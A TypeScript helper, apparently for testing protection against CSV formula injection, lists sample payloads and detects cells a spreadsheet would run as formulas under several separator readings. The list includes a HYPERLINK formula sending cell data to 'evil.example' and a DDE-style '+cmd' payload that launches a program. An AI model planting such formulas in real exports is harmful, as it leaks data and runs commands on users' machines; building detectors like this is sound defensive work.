import { parse } from 'csv-parse/sync';

/** Text that a spreadsheet would run as a formula in some cell, whichever separator it splits on. */
export const formulaTexts = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '\rcmd',
  ' =1+1',
  '"=1+1"',
  '＝1+1',
  'x;=1+1',
  'x; =1+1',
  'x;"=1+1"',
  'a,=HYPERLINK("http://evil.example/?q="&A1,"click")',
  'Ayesha\t@SUM(A1)',
  'line one\r\n-2+3',
  "line one\n+cmd|' /C calc'!A0",
];

const formulaStart = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

/**
 * The cells of a spreadsheet set to another separator: a quote mark opens or closes quoting, and the
 * separator or a line break outside quotes ends a cell. Quote marks are left out of the cells.
 */
function splitOutsideQuotes(csv: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (const character of csv) {
    if (character === '"') {
      quoted = !quoted;
    } else if (!quoted && (character === separator || character === '\r' || character === '\n')) {
      cells.push(cell);
      cell = '';
    } else {
      cell += character;
    }
  }
  return [...cells, cell];
}

/**
 * Every cell a reader could see in a CSV: read as written (comma, quotes honoured); by a spreadsheet
 * set to semicolons or tabs; split at every separator and line break with the quotes ignored, as a
 * careless import does. Blanks and quote marks before a cell's text are dropped, as a spreadsheet would.
 */
function cellsAsReadBySpreadsheets(csv: string): string[] {
  const readings = [
    (parse(csv, { delimiter: ',' }) as string[][]).flat(),
    ...[',', ';', '\t'].map((separator) => splitOutsideQuotes(csv, separator)),
    ...[',', ';', '\t'].map((delimiter) =>
      (parse(csv, { delimiter, quote: false, record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true }) as string[][]).flat(),
    ),
  ];
  return readings.flat().map((cell) => cell.replace(/^[\s"]+/, ''));
}

/** The cells of a CSV that some spreadsheet would run as formulas, numbers left out. */
export function formulaCells(csv: string): string[] {
  return cellsAsReadBySpreadsheets(csv).filter((cell) => formulaStart.test(cell) && Number.isNaN(Number(cell)));
}
